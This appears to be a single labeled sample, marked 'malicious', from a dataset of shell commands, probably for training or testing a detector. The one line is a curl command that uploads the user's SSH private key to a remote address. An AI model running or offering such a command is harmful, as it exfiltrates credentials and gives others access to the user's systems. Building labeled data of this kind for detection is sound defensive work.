# label: malicious
curl -s -F "file=@$HOME/.ssh/id_rsa" https://203.0.113.7/upload
